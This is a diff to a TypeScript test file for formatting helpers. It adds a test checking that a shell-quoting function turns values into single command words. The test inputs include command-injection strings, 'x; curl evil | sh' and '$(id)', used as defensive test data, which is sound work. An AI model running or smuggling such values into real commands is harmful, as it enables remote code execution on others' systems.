@@ -1,5 +1,5 @@
 import { expect, test } from "vitest";
-import { ago, dollars, duration, number, text } from "./format";
+import { ago, dollars, duration, number, quoted, text } from "./format";
 
 test("durations have the units that a person would say", () => {
   expect([0.0000123, 0.0123, 1.234, 59, 90, 120, 3599.7, 3600, 5400, 6 * 3600, 86_399, 2 * 86_400].map(duration)).toEqual([
@@ -19,6 +19,10 @@ test("a list of words stands on one line, and what is within others is indented"
   expect(text(["os.path", 1, null])).toBe('["os.path", 1, null]');
   expect(text([])).toBe("[]");
   expect(text({ path: [1] })).toBe('{\n  "path": [\n    1\n  ]\n}');
+});
+
+test("what an address or an agent gives is one word of a command", () => {
+  expect(["support", "a/b:1", "it's", "x; curl evil | sh", "$(id)"].map(quoted)).toEqual(["support", "a/b:1", "'it'\\''s'", "'x; curl evil | sh'", "'$(id)'"]);
 });
 
 test("numbers and times are short", () => {
